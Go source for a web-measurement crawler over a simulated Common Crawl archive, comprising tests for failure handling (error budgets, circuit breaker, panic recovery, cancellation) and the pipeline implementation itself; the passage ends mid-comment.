// ReadRange for the selected domains after allowing `allow` reads each.
type failFetchArchive struct {
	commoncrawl.Archive
	fail  map[string]bool // domain -> fail its fetches
	allow int

	mu    sync.Mutex
	reads map[string]int
}

var errRecordGone = errors.New("record gone")

func (a *failFetchArchive) ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error) {
	// Synthetic filenames are "crawl/domain.warc.gz".
	domain := strings.TrimSuffix(filename[strings.Index(filename, "/")+1:], ".warc.gz")
	if a.fail[domain] {
		a.mu.Lock()
		a.reads[domain]++
		n := a.reads[domain]
		a.mu.Unlock()
		if n > a.allow {
			return nil, resilience.Permanent(fmt.Errorf("%w: %s@%d", errRecordGone, filename, offset))
		}
	}
	return a.Archive.ReadRange(ctx, filename, offset, length)
}

// TestPartialStatsOnDomainFailure: a domain that errors after some
// pages were fetched must still contribute its partial work to
// PagesFound/PagesAnalyzed and carry it in the failed-domain record —
// before this fix, a domain dying on page 3 of 4 contributed nothing.
func TestPartialStatsOnDomainFailure(t *testing.T) {
	arch := testArchive(30, 4)
	crawl := arch.Crawls()[0]
	domains := arch.Generator().Universe()

	// Pick a victim with several analyzable pages in the first crawl.
	victim := ""
	for _, d := range domains {
		recs, err := arch.Query(context.Background(), crawl, d, 4)
		if err != nil {
			t.Fatal(err)
		}
		html := 0
		for _, r := range recs {
			if r.Status == 200 && strings.HasPrefix(r.MIME, "text/html") {
				html++
			}
		}
		if html >= 3 {
			victim = d
			break
		}
	}
	if victim == "" {
		t.Skip("no domain with enough pages in this corpus")
	}

	ff := &failFetchArchive{Archive: arch, fail: map[string]bool{victim: true},
		allow: 1, reads: make(map[string]int)}
	st := store.New()
	p := New(ff, core.NewChecker(), st, Config{
		Workers: 2, PagesPerDomain: 4, Retries: NoRetries, RetryDelay: NoDelay,
		MaxDomainFailures: 5,
	})
	stats, err := p.RunSnapshot(context.Background(), crawl, domains)
	if err != nil {
		t.Fatalf("one failed domain must not kill the snapshot: %v", err)
	}
	if stats.DomainsFailed != 1 || len(stats.Failed) != 1 {
		t.Fatalf("DomainsFailed=%d Failed=%v, want exactly the victim", stats.DomainsFailed, stats.Failed)
	}
	fd := stats.Failed[0]
	if fd.Domain != victim || fd.Class != "permanent" {
		t.Fatalf("failure ledger wrong: %+v", fd)
	}
	if fd.PagesFound == 0 || fd.PagesAnalyzed == 0 {
		t.Fatalf("partial work lost from the ledger: %+v", fd)
	}

	// The partial pages are in the snapshot totals: compare with a run
	// that excludes the victim entirely.
	rest := make([]string, 0, len(domains)-1)
	for _, d := range domains {
		if d != victim {
			rest = append(rest, d)
		}
	}
	st2 := store.New()
	p2 := New(arch, core.NewChecker(), st2, Config{Workers: 2, PagesPerDomain: 4})
	stats2, err := p2.RunSnapshot(context.Background(), crawl, rest)
	if err != nil {
		t.Fatal(err)
	}
	if stats.PagesAnalyzed != stats2.PagesAnalyzed+fd.PagesAnalyzed {
		t.Fatalf("partial pages not in totals: %d != %d + %d",
			stats.PagesAnalyzed, stats2.PagesAnalyzed, fd.PagesAnalyzed)
	}
	if st.Get(crawl, victim) != nil {
		t.Fatal("failed domain must not be stored as a success")
	}
}

// alwaysFailArchive fails every query with a retryable error.
type alwaysFailArchive struct{ commoncrawl.Archive }

var errArchiveDown = errors.New("archive down")

func (alwaysFailArchive) Query(context.Context, string, string, int) ([]*cdx.Record, error) {
	return nil, errArchiveDown
}

// TestErrorBudgetExhaustionStopsSnapshot: when more domains fail than
// the budget allows, the snapshot stops with an error wrapping the
// last failure, and the stats record what happened up to that point.
func TestErrorBudgetExhaustionStopsSnapshot(t *testing.T) {
	arch := testArchive(40, 2)
	p := New(alwaysFailArchive{arch}, core.NewChecker(), store.New(), Config{
		Workers: 2, PagesPerDomain: 2, Retries: 1, RetryDelay: NoDelay,
		MaxDomainFailures: 3,
	})
	stats, err := p.RunSnapshot(context.Background(), arch.Crawls()[0], arch.Generator().Universe())
	if err == nil {
		t.Fatal("budget exhaustion must surface an error")
	}
	if !errors.Is(err, errArchiveDown) {
		t.Fatalf("budget error must wrap the triggering failure: %v", err)
	}
	if !strings.Contains(err.Error(), "budget") {
		t.Fatalf("error should name the budget: %v", err)
	}
	if stats.DomainsFailed < 4 {
		t.Fatalf("DomainsFailed=%d, want > budget of 3", stats.DomainsFailed)
	}
	// Cancellation tears the rest down: nowhere near all 40 failed.
	if stats.DomainsFailed > 3+2*4 {
		t.Fatalf("teardown kept failing domains: %d failed", stats.DomainsFailed)
	}
	if stats.FailedByClass["retryable"] != stats.DomainsFailed {
		t.Fatalf("class breakdown inconsistent: %+v", stats.FailedByClass)
	}
}

// TestUnlimitedFailuresCompletes: with the budget disabled, even an
// archive that fails every domain lets the snapshot run to the end.
func TestUnlimitedFailuresCompletes(t *testing.T) {
	arch := testArchive(25, 2)
	domains := arch.Generator().Universe()
	p := New(alwaysFailArchive{arch}, core.NewChecker(), store.New(), Config{
		Workers: 4, PagesPerDomain: 2, Retries: NoRetries, RetryDelay: NoDelay,
		MaxDomainFailures: UnlimitedFailures, BreakerThreshold: -1,
	})
	stats, err := p.RunSnapshot(context.Background(), arch.Crawls()[0], domains)
	if err != nil {
		t.Fatalf("unlimited budget must not stop: %v", err)
	}
	if stats.DomainsFailed != len(domains) || len(stats.Failed) != len(domains) {
		t.Fatalf("failed %d/%d, ledger %d", stats.DomainsFailed, len(domains), len(stats.Failed))
	}
}

// TestFatalErrorStopsImmediately: a fatal (configuration) error must
// stop the snapshot at once instead of burning the error budget.
func TestFatalErrorStopsImmediately(t *testing.T) {
	arch := testArchive(40, 2)
	p := New(arch, core.NewChecker(), store.New(), Config{
		Workers: 2, PagesPerDomain: 2, Retries: NoRetries, RetryDelay: NoDelay,
		MaxDomainFailures: UnlimitedFailures,
	})
	stats, err := p.RunSnapshot(context.Background(), "CC-MAIN-BOGUS", arch.Generator().Universe())
	if err == nil || !strings.Contains(err.Error(), "fatal") {
		t.Fatalf("err = %v, want a fatal-classified stop", err)
	}
	if !strings.Contains(err.Error(), "unknown crawl") {
		t.Fatalf("fatal error lost its cause: %v", err)
	}
	// Fatal cancels the run: only in-flight workers can add failures.
	if stats.DomainsFailed > 4 {
		t.Fatalf("fatal error burned %d budget units before stopping", stats.DomainsFailed)
	}
}

// panickyChecker panics on a deterministic subset of pages —
// the adversarial-HTML-crashes-the-parser scenario.
type panickyChecker struct {
	inner  Checker
	panics atomic.Uint64
}

func (c *panickyChecker) Check(html []byte) (*core.Report, error) {
	if len(html)%3 == 0 {
		c.panics.Add(1)
		panic(fmt.Sprintf("parser blew up on %d adversarial bytes", len(html)))
	}
	return c.inner.Check(html)
}

// TestCheckerPanicRecovered: a panicking checker costs pages, never the
// process or even the domain.
func TestCheckerPanicRecovered(t *testing.T) {
	arch := testArchive(60, 3)
	crawl := arch.Crawls()[0]
	domains := arch.Generator().Universe()
	pc := &panickyChecker{inner: core.NewChecker()}
	st := store.New()
	p := New(arch, pc, st, Config{Workers: 4, PagesPerDomain: 3})
	stats, err := p.RunSnapshot(context.Background(), crawl, domains)
	if err != nil {
		t.Fatalf("panics must be contained: %v", err)
	}
	if pc.panics.Load() == 0 {
		t.Fatal("checker never panicked — test is vacuous")
	}
	m := p.Metrics()
	if got := m.CheckPanics.Value(); got != pc.panics.Load() {
		t.Fatalf("check panics counter = %d, want %d", got, pc.panics.Load())
	}
	if got := m.Skipped("check-panic").Value(); got != pc.panics.Load() {
		t.Fatalf("check-panic skip counter = %d, want %d", got, pc.panics.Load())
	}
	if stats.DomainsFailed != 0 {
		t.Fatalf("page panics must not fail domains: %d failed", stats.DomainsFailed)
	}
	// The failures are recorded on the domain results, URL and stack
	// included, and page accounting still reconciles.
	recordedFailures := 0
	sampled := 0
	st.ForEach(func(dr *store.DomainResult) {
		recordedFailures += dr.PagesFailed
		sampled += len(dr.PageFailures)
		for _, f := range dr.PageFailures {
			if !strings.Contains(f, "checker panic") || !strings.Contains(f, "http") {
				t.Fatalf("page failure lacks cause or URL: %q", f)
			}
			if !strings.Contains(f, "crawler.(*panickyChecker).Check") {
				t.Fatalf("page failure lacks the panic stack: %.200q", f)
			}
		}
	})
	if recordedFailures == 0 || sampled == 0 {
		t.Fatalf("panics not recorded on domain results (count=%d sample=%d); some may be on all-failed domains",
			recordedFailures, sampled)
	}
	if uint64(recordedFailures) > pc.panics.Load() {
		t.Fatalf("recorded %d page failures from %d panics", recordedFailures, pc.panics.Load())
	}
}

// cancelAfterReads cancels the context as the Nth ReadRange begins and
// counts every read, to measure how promptly cancellation lands.
type cancelAfterReads struct {
	commoncrawl.Archive
	n      int64
	cancel context.CancelFunc
	reads  atomic.Int64
}

func (a *cancelAfterReads) ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error) {
	if a.reads.Add(1) == a.n {
		a.cancel()
	}
	return a.Archive.ReadRange(ctx, filename, offset, length)
}

// TestMidSnapshotCancellationIsPageBounded: canceling ctx stops
// in-flight work within one page per worker — not one domain — and
// RunSnapshot returns ctx.Err() with consistent stats.
func TestMidSnapshotCancellationIsPageBounded(t *testing.T) {
	arch := testArchive(20, 8)
	crawl := arch.Crawls()[0]
	domains := arch.Generator().Universe()
	ctx, cancel := context.WithCancel(context.Background())
	ca := &cancelAfterReads{Archive: arch, n: 3, cancel: cancel}
	st := store.New()
	p := New(ca, core.NewChecker(), st, Config{
		Workers: 1, PagesPerDomain: 8, Retries: NoRetries, RetryDelay: NoDelay,
	})
	stats, err := p.RunSnapshot(ctx, crawl, domains)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want ctx.Err()", err)
	}
	// One worker, cancel on read 3: the in-flight page finishes, the
	// next per-page ctx check stops the domain. Generously allow one
	// extra read for scheduling; dozens would mean per-domain checks.
	if got := ca.reads.Load(); got > 4 {
		t.Fatalf("%d reads after cancel-at-3 — cancellation is not page-bounded", got)
	}
	// Interrupted domains are not "failed", and nothing analyzed was
	// beyond what the reads allow.
	if stats.DomainsFailed != 0 {
		t.Fatalf("cancellation recorded %d domain failures", stats.DomainsFailed)
	}
	if stats.PagesAnalyzed > 3 {
		t.Fatalf("stats claim %d analyzed pages from ≤3 reads", stats.PagesAnalyzed)
	}
	if stats.Analyzed != st.Len() {
		t.Fatalf("stats.Analyzed=%d but store holds %d", stats.Analyzed, st.Len())
	}
}

// TestBreakerShedsLoadWhenArchiveDown: consecutive retryable failures
// open the breaker; the remaining domains shed fast instead of
// hammering a dead archive, and the metrics show the trip.
func TestBreakerShedsLoadWhenArchiveDown(t *testing.T) {
	arch := testArchive(60, 2)
	queries := atomic.Int64{}
	down := countingFailArchive{Archive: arch, calls: &queries}
	p := New(down, core.NewChecker(), store.New(), Config{
		Workers: 1, PagesPerDomain: 2, Retries: NoRetries, RetryDelay: NoDelay,
		MaxDomainFailures: UnlimitedFailures, BreakerThreshold: 5, BreakerCooldown: time.Hour,
	})
	stats, err := p.RunSnapshot(context.Background(), arch.Crawls()[0], arch.Generator().Universe())
	if err != nil {
		t.Fatalf("unlimited budget: %v", err)
	}
	if stats.DomainsFailed != 60 {
		t.Fatalf("failed %d, want all 60", stats.DomainsFailed)
	}
	m := p.Metrics()
	if m.Res.BreakerTrips.Value() == 0 {
		t.Fatal("breaker never tripped")
	}
	if m.Res.BreakerShed.Value() == 0 {
		t.Fatal("open breaker shed nothing")
	}
	// The whole point: far fewer archive calls than domains.
	if got := queries.Load(); got > 10 {
		t.Fatalf("archive saw %d queries through an open breaker, want ≤ threshold+margin", got)
	}
	if p.Breaker().State() != resilience.StateOpen {
		t.Fatalf("breaker state = %v, want open", p.Breaker().State())
	}
}

type countingFailArchive struct {
	commoncrawl.Archive
	calls *atomic.Int64
}

func (a countingFailArchive) Query(context.Context, string, string, int) ([]*cdx.Record, error) {
	a.calls.Add(1)
	return nil, errArchiveDown
}
