// Package crawler implements the four-stage measurement pipeline of the
// paper's Figure 6: collect capture metadata from the (simulated) Common
// Crawl index, fetch the WARC records, run the violation checker, and
// store per-domain aggregates. Stages run on bounded worker pools; the
// paper reports ~1,000 pages/minute from one machine, and this pipeline
// comfortably exceeds that against the synthetic archive.
//
// The pipeline degrades gracefully under partial failure: archive calls
// run under a retry policy (exponential backoff + jitter) behind a
// circuit breaker, errors are classified (retryable / permanent /
// fatal, internal/resilience), and a failed domain consumes one unit of
// the snapshot's error budget instead of aborting the run — only
// budget exhaustion or a fatal error stops a snapshot. A checker panic
// on adversarial HTML is recovered into a per-page failure. With a
// resume journal configured (internal/store), completed (crawl, domain)
// pairs survive a crash and are skipped on restart.
//
// Every stage is instrumented (metrics.go): latency histograms, byte and
// outcome counters, and in-flight gauges, exposed through
// Pipeline.Metrics() and any obs.Registry passed in Config.
package crawler

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"strings"
	"sync"
	"time"
	"unicode/utf8"

	"github.com/hvscan/hvscan/internal/autofix"
	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/resilience"
	"github.com/hvscan/hvscan/internal/store"
)

// NoRetries disables retrying entirely when assigned to Config.Retries.
// The zero value of Retries means "use the default" (2), so a sentinel is
// needed to say "really zero retries" — any negative value works, but use
// the constant to make call sites self-explanatory.
const NoRetries = -1

// NoDelay disables the sleep between retry attempts when assigned to
// Config.RetryDelay. Like NoRetries, it exists because the zero value
// means "use the default" (50ms) — before this sentinel, tests asking
// for 0 silently got 50ms per retry.
const NoDelay time.Duration = -1

// UnlimitedFailures disables the per-snapshot error budget when
// assigned to Config.MaxDomainFailures: every domain may fail and the
// snapshot still completes (only fatal errors stop it).
const UnlimitedFailures = -1

// Checker runs the violation rules over one HTML document.
// *core.Checker is the production implementation; tests substitute
// adversarial ones.
type Checker interface {
	Check(html []byte) (*core.Report, error)
}

// Config tunes the pipeline.
type Config struct {
	// Workers is the number of concurrent domain workers (default: NumCPU).
	Workers int
	// PagesPerDomain caps captures per domain (the paper uses 100).
	PagesPerDomain int
	// Retries is how often a failed index query or record fetch is retried
	// before the domain errors out. Zero means the default of 2 (long
	// network crawls must survive transient faults); assign NoRetries to
	// disable retrying.
	Retries int
	// RetryDelay is the base backoff between attempts, growing
	// exponentially with ±50% jitter. Zero means the default of 50ms;
	// assign NoDelay to really disable sleeping (tests).
	RetryDelay time.Duration
	// MaxDomainFailures is the per-snapshot error budget: how many
	// domains may fail (after retries) before RunSnapshot gives up.
	// Zero means the default of 10% of the snapshot's domains (at least
	// 1); assign UnlimitedFailures to never stop on domain failures.
	MaxDomainFailures int
	// BreakerThreshold is how many consecutive retryable archive
	// failures open the circuit breaker that sheds archive load. Zero
	// means the default of max(8, 2×Workers); any negative value
	// disables the breaker.
	BreakerThreshold int
	// BreakerCooldown is how long an open breaker sheds load before
	// probing the archive again (default 5s).
	BreakerCooldown time.Duration
	// MaxDocumentBytes skips captures larger than this before checking
	// (default 2 MiB — Common Crawl itself truncates records at 1 MiB, so
	// anything bigger is either truncated junk or a decompression bomb).
	MaxDocumentBytes int
	// Fix enables the machine-repairability measurement mode: every
	// analyzed page additionally runs through the validated repair
	// engine (internal/autofix) and its outcome — clean, fixed, partial
	// or unfixable — is aggregated per domain and per snapshot. The
	// repaired bytes are measured, not persisted.
	Fix bool
	// Journal, if set, records every completed (crawl, domain) pair and
	// is consulted before measuring: already-journaled pairs are
	// replayed into the stats and store instead of re-crawled. This is
	// the crash-safe resume path of `hvcrawl -resume`.
	Journal *store.Journal
	// Progress, if set, receives one call per finished domain —
	// measured, failed, or replayed from the journal.
	Progress func(crawl, domain string, done, total int)
	// Registry receives the pipeline's metric series. Nil means a private
	// registry, still reachable via Pipeline.Metrics().Registry().
	Registry *obs.Registry
}

// Pipeline wires an archive to a checker and a store.
type Pipeline struct {
	archive commoncrawl.Archive
	checker Checker
	store   *store.Store
	cfg     Config
	metrics *Metrics
	policy  resilience.Policy
	breaker *resilience.Breaker // nil when disabled
}

// New assembles a pipeline.
func New(a commoncrawl.Archive, c Checker, st *store.Store, cfg Config) *Pipeline {
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.NumCPU()
	}
	if cfg.PagesPerDomain <= 0 {
		cfg.PagesPerDomain = 100
	}
	if cfg.Retries < 0 {
		cfg.Retries = 0 // NoRetries (or any negative): disabled
	} else if cfg.Retries == 0 {
		cfg.Retries = 2 // unset: default
	}
	if cfg.RetryDelay < 0 {
		cfg.RetryDelay = 0 // NoDelay (or any negative): disabled
	} else if cfg.RetryDelay == 0 {
		cfg.RetryDelay = 50 * time.Millisecond
	}
	if cfg.MaxDocumentBytes <= 0 {
		cfg.MaxDocumentBytes = 2 << 20
	}
	if cfg.BreakerCooldown <= 0 {
		cfg.BreakerCooldown = 5 * time.Second
	}
	if cfg.Registry == nil {
		cfg.Registry = obs.NewRegistry()
	}
	m := NewMetrics(cfg.Registry)
	p := &Pipeline{
		archive: a, checker: c, store: st, cfg: cfg,
		metrics: m,
	}
	p.policy = resilience.Policy{
		MaxAttempts: cfg.Retries + 1,
		BaseDelay:   cfg.RetryDelay,
		Jitter:      0.5,
		OnRetry: func(attempt int, sleep time.Duration, err error) {
			m.Retries.Inc()
			m.Res.Retries.Inc()
			m.Res.BackoffSeconds.Observe(sleep.Seconds())
		},
	}
	if cfg.BreakerThreshold >= 0 {
		threshold := cfg.BreakerThreshold
		if threshold == 0 {
			// Workers fail in bursts: every worker can lose its in-flight
			// call to one archive hiccup, so the default threshold scales
			// with concurrency to avoid tripping on a single blip.
			threshold = 2 * cfg.Workers
			if threshold < 8 {
				threshold = 8
			}
		}
		p.breaker = resilience.NewBreaker(resilience.BreakerConfig{
			FailureThreshold: threshold,
			Cooldown:         cfg.BreakerCooldown,
			OnStateChange:    m.Res.BreakerHook(),
		})
	}
	return p
}

// Store returns the pipeline's result store.
func (p *Pipeline) Store() *store.Store { return p.store }

// Metrics returns the pipeline's instrumentation, for exposition servers,
// end-of-run summaries, and test assertions.
func (p *Pipeline) Metrics() *Metrics { return p.metrics }

// Breaker returns the archive circuit breaker, or nil when disabled.
func (p *Pipeline) Breaker() *resilience.Breaker { return p.breaker }

// SnapshotStats summarizes one crawl run (one Table 2 row).
type SnapshotStats = store.CrawlStats

// guard runs one archive call through the circuit breaker (when
// enabled): shed with ErrBreakerOpen while the archive is failing,
// record the outcome otherwise.
func (p *Pipeline) guard(f func() error) error {
	if p.breaker == nil {
		return f()
	}
	if err := p.breaker.Allow(); err != nil {
		p.metrics.Res.BreakerShed.Inc()
		return err
	}
	err := f()
	p.breaker.Record(err)
	return err
}

// domainOutcome is one worker's verdict on one domain: the (possibly
// partial) result, and the classified error if the domain failed.
type domainOutcome struct {
	dr    *store.DomainResult
	err   error
	class resilience.Class
}

// RunSnapshot measures all domains against one crawl.
//
// Failure semantics: a domain that exhausts its retries (or hits a
// permanent fault) is recorded in the returned stats — DomainsFailed,
// FailedByClass, and the per-domain Failed ledger, with its partial
// page counts — and the run continues. The snapshot stops early only
// when the error budget (Config.MaxDomainFailures) is exhausted, a
// fatal error surfaces, or ctx is canceled; in every case the stats
// reflect all work completed up to that point. Cancellation interrupts
// in-flight domains between pages, not just between domains.
func (p *Pipeline) RunSnapshot(ctx context.Context, crawl string, domains []string) (SnapshotStats, error) {
	stats := SnapshotStats{Crawl: crawl, Domains: len(domains)}
	budget := p.cfg.MaxDomainFailures
	if budget == 0 {
		if budget = len(domains) / 10; budget < 1 {
			budget = 1
		}
	} else if budget < 0 {
		budget = len(domains) + 1 // UnlimitedFailures: never exhausted
	}
	m := p.metrics

	// Cancellation fans out to every in-flight worker: budget
	// exhaustion and fatal errors use the same mechanism as the caller.
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	// Resume: replay journaled pairs into stats and store before
	// dispatching anything; only the remainder is measured.
	type job struct {
		domain string
		rank   int
	}
	todo := make([]job, 0, len(domains))
	total := len(domains)
	done := 0
	for i, d := range domains {
		if p.cfg.Journal != nil {
			if e, ok := p.cfg.Journal.Entry(crawl, d); ok {
				done++
				p.replay(e, &stats)
				if p.cfg.Progress != nil {
					p.cfg.Progress(crawl, d, done, total)
				}
				continue
			}
		}
		todo = append(todo, job{domain: d, rank: i + 1})
	}

	// A resumed run may already be over budget (the previous run ended
	// that way); surface it before doing more work.
	var failErr error
	noteFailure := func(o domainOutcome) {
		if o.class == resilience.ClassFatal && failErr == nil {
			failErr = fmt.Errorf("crawler: fatal error on %s: %w", o.dr.Domain, o.err)
			cancel()
		} else if stats.DomainsFailed > budget && failErr == nil {
			failErr = fmt.Errorf("crawler: error budget exhausted (%d domains failed, budget %d), last: %w",
				stats.DomainsFailed, budget, o.err)
			cancel()
		}
	}
	if stats.DomainsFailed > budget {
		// The previous run already spent the budget; resuming cannot
		// recover, so the condition is fatal, not retryable.
		return stats, resilience.Fatal(fmt.Errorf("crawler: error budget already exhausted by resumed journal (%d failed, budget %d)",
			stats.DomainsFailed, budget))
	}

	jobs := make(chan job)
	results := make(chan domainOutcome)
	var wg sync.WaitGroup
	for w := 0; w < p.cfg.Workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := range jobs {
				m.DomainsStarted.Inc()
				m.InFlight.Inc()
				dr, err := p.measureDomain(ctx, crawl, j.domain, j.rank)
				m.InFlight.Dec()
				o := domainOutcome{dr: dr, err: err}
				if err != nil {
					o.class = resilience.Classify(err)
				}
				results <- o
			}
		}()
	}
	go func() {
		defer close(jobs)
		for _, j := range todo {
			select {
			case jobs <- j:
			case <-ctx.Done():
				return
			}
		}
	}()
	go func() {
		wg.Wait()
		close(results)
	}()

	for o := range results {
		dr := o.dr
		if o.err != nil && (errors.Is(o.err, context.Canceled) || errors.Is(o.err, context.DeadlineExceeded)) && ctx.Err() != nil {
			// The run is being torn down; an interrupted domain is not
			// failed — it was never finished, and a resumed run will
			// measure it from scratch.
			continue
		}
		done++
		if o.err != nil {
			m.DomainErrors.Inc()
			m.Res.ObserveError(o.class)
			stats.DomainsFailed++
			if stats.FailedByClass == nil {
				stats.FailedByClass = make(map[string]int)
			}
			stats.FailedByClass[o.class.String()]++
			// The partial work still counts: pages measured before the
			// fault are real measurements (see FailedDomain).
			stats.PagesFound += dr.PagesFound
			stats.PagesAnalyzed += dr.PagesAnalyzed
			stats.AbsorbFix(dr)
			fd := store.FailedDomain{
				Domain: dr.Domain, Class: o.class.String(), Err: truncErr(o.err),
				PagesFound: dr.PagesFound, PagesAnalyzed: dr.PagesAnalyzed,
			}
			stats.Failed = append(stats.Failed, fd)
			if jerr := p.journal(store.JournalEntry{
				Crawl: crawl, Domain: dr.Domain,
				Failed: true, Class: fd.Class, Error: fd.Err, Result: dr,
			}); jerr != nil && failErr == nil {
				failErr = jerr
				cancel()
			}
			noteFailure(o)
			if p.cfg.Progress != nil {
				p.cfg.Progress(crawl, dr.Domain, done, total)
			}
			continue
		}
		m.DomainsDone.Inc()
		if dr.PagesFound > 0 {
			stats.Found++
		}
		if dr.Analyzed() {
			stats.Analyzed++
			t0 := time.Now()
			p.store.Put(dr)
			m.observeStage("store", t0)
		}
		stats.PagesFound += dr.PagesFound
		stats.PagesAnalyzed += dr.PagesAnalyzed
		stats.AbsorbFix(dr)
		if jerr := p.journal(store.JournalEntry{Crawl: crawl, Domain: dr.Domain, Result: dr}); jerr != nil && failErr == nil {
			failErr = jerr
			cancel()
		}
		if p.cfg.Progress != nil {
			p.cfg.Progress(crawl, dr.Domain, done, total)
		}
	}
	if failErr != nil {
		return stats, failErr
	}
	return stats, ctx.Err()
}

// journal records one completion entry, when a journal is configured. A
// journal write failure is fatal: continuing without crash safety would
// silently break the resume contract.
func (p *Pipeline) journal(e store.JournalEntry) error {
	if p.cfg.Journal == nil {
		return nil
	}
	if err := p.cfg.Journal.Record(e); err != nil {
		return resilience.Fatal(fmt.Errorf("crawler: journal write: %w", err))
	}
	return nil
}

// replay folds one journaled completion into the stats (and, for
// analyzed domains, the store) exactly as the live path would have.
func (p *Pipeline) replay(e store.JournalEntry, stats *SnapshotStats) {
	p.metrics.DomainsResumed.Inc()
	stats.DomainsResumed++
	dr := e.Result
	if e.Failed {
		stats.DomainsFailed++
		if stats.FailedByClass == nil {
			stats.FailedByClass = make(map[string]int)
		}
		stats.FailedByClass[e.Class]++
		fd := store.FailedDomain{Domain: e.Domain, Class: e.Class, Err: e.Error}
		if dr != nil {
			fd.PagesFound, fd.PagesAnalyzed = dr.PagesFound, dr.PagesAnalyzed
			stats.PagesFound += dr.PagesFound
			stats.PagesAnalyzed += dr.PagesAnalyzed
			stats.AbsorbFix(dr)
		}
		stats.Failed = append(stats.Failed, fd)
		return
	}
	if dr == nil {
		return
	}
	if dr.PagesFound > 0 {
		stats.Found++
	}
	if dr.Analyzed() {
		stats.Analyzed++
		p.store.Put(dr)
	}
	stats.PagesFound += dr.PagesFound
	stats.PagesAnalyzed += dr.PagesAnalyzed
	stats.AbsorbFix(dr)
}

// truncErr caps an error message for the stats ledger (a recovered
// panic carries a stack trace; the ledger only needs the head).
func truncErr(err error) string {
	const max = 512
	s := err.Error()
	if len(s) > max {
		return s[:max] + "…"
	}
	return s
}

// Summary snapshots the pipeline metrics over the given wall time; a
// convenience shim for p.Metrics().Summary(elapsed).
func (p *Pipeline) Summary(elapsed time.Duration) RunSummary {
	return p.metrics.Summary(elapsed)
}

// measureDomain runs collect → fetch → check for one domain and returns
// the aggregate. On error the returned result carries the partial work
// completed before the fault (never nil), and the error's resilience
// class is preserved through the wrapping. Cancellation is honoured
// between pages and inside retry backoffs.
func (p *Pipeline) measureDomain(ctx context.Context, crawl, domain string, rank int) (*store.DomainResult, error) {
	m := p.metrics
	dr := &store.DomainResult{
		Crawl: crawl, Domain: domain, Rank: rank,
		Violations: make(map[string]int),
		Signals:    make(map[string]int),
	}
	t0 := time.Now()
	recs, err := resilience.Do(ctx, p.policy, func() ([]*cdx.Record, error) {
		var recs []*cdx.Record
		gerr := p.guard(func() error {
			var qerr error
			recs, qerr = p.archive.Query(ctx, crawl, domain, p.cfg.PagesPerDomain)
			return qerr
		})
		return recs, gerr
	})
	m.observeStage("query", t0)
	if err != nil {
		if ctx.Err() == nil {
			m.QueryErrors.Inc() // a real failure, not run teardown
		}
		return dr, fmt.Errorf("crawler: query %s/%s: %w", crawl, domain, err)
	}
	dr.PagesFound = len(recs)
	m.PagesFound.Add(uint64(len(recs)))
	for _, rec := range recs {
		// Cancellation stops mid-domain: the bound is one in-flight
		// page, not one domain.
		if cerr := ctx.Err(); cerr != nil {
			return dr, cerr
		}
		// The index carries MIME and status; skip obvious non-pages before
		// fetching, like the paper's metadata-driven collection does.
		if rec.Status != 200 || !strings.HasPrefix(rec.MIME, "text/html") {
			m.skipped["index-filter"].Inc()
			continue
		}
		rec := rec
		t0 = time.Now()
		cap, err := resilience.Do(ctx, p.policy, func() (*commoncrawl.Capture, error) {
			var cap *commoncrawl.Capture
			gerr := p.guard(func() error {
				var ferr error
				cap, ferr = commoncrawl.FetchCapture(ctx, p.archive, rec)
				return ferr
			})
			return cap, gerr
		})
		m.observeStage("fetch", t0)
		if err != nil {
			if ctx.Err() == nil {
				m.FetchErrors.Inc()
			}
			return dr, fmt.Errorf("crawler: fetch %s: %w", rec.URL, err)
		}
		m.PagesFetched.Inc()
		m.BytesFetched.Add(uint64(rec.Length))
		if cap.Status != 200 {
			m.skipped["status"].Inc()
			continue
		}
		if !strings.HasPrefix(cap.MIME, "text/html") {
			m.skipped["mime"].Inc()
			continue
		}
		if len(cap.Body) > p.cfg.MaxDocumentBytes {
			m.skipped["oversize"].Inc()
			continue
		}
		// Encoding filter (paper §4.1): only UTF-8-decodable documents.
		if !utf8.Valid(cap.Body) {
			m.skipped["non-utf8"].Inc()
			continue
		}
		m.DocBytes.Observe(float64(len(cap.Body)))
		t0 = time.Now()
		rep, err := p.checkPage(cap.Body)
		m.observeStage("check", t0)
		if err != nil {
			var pe *pagePanicError
			if errors.As(err, &pe) {
				// A checker panic on adversarial HTML is a per-page
				// failure, not a process crash: record it and move on.
				m.CheckPanics.Inc()
				m.skipped["check-panic"].Inc()
				dr.PagesFailed++
				if len(dr.PageFailures) < maxPageFailures {
					dr.PageFailures = append(dr.PageFailures,
						fmt.Sprintf("%s: %v", rec.URL, err))
				}
				continue
			}
			m.skipped["non-utf8"].Inc()
			continue // non-UTF-8 slipped through; same filter
		}
		dr.PagesAnalyzed++
		m.PagesAnalyzed.Inc()
		for id, n := range rep.RuleHits {
			if n > 0 {
				dr.Violations[id]++
			}
		}
		addSignals(dr.Signals, rep.Signals)
		if p.cfg.Fix {
			t0 = time.Now()
			p.fixPage(cap.Body, dr)
			m.observeStage("fix", t0)
		}
	}
	return dr, nil
}

// fixPage runs the validated repair engine over one analyzed page and
// folds the outcome into the domain aggregate. Like checkPage, a panic
// on adversarial HTML costs one page — it is recorded as unfixable,
// never crashes the run.
func (p *Pipeline) fixPage(body []byte, dr *store.DomainResult) {
	outcome, applied := repairOutcome(body)
	if dr.FixOutcomes == nil {
		dr.FixOutcomes = make(map[string]int)
	}
	dr.FixOutcomes[outcome]++
	p.metrics.FixPages[outcome].Inc()
	for _, f := range applied {
		if dr.FixesApplied == nil {
			dr.FixesApplied = make(map[string]int)
		}
		dr.FixesApplied[f.RuleID]++
	}
}

// repairOutcome classifies one page's machine repairability. An
// operational repair error or a recovered panic counts as unfixable:
// either way no verified repair exists for the page.
func repairOutcome(body []byte) (outcome string, applied []autofix.Fix) {
	defer func() {
		if recover() != nil {
			outcome, applied = string(autofix.OutcomeUnfixable), nil
		}
	}()
	r, err := autofix.Repair(body)
	if err != nil {
		return string(autofix.OutcomeUnfixable), nil
	}
	return string(r.Outcome()), r.Applied
}

// maxPageFailures caps the per-domain failure sample kept in the store;
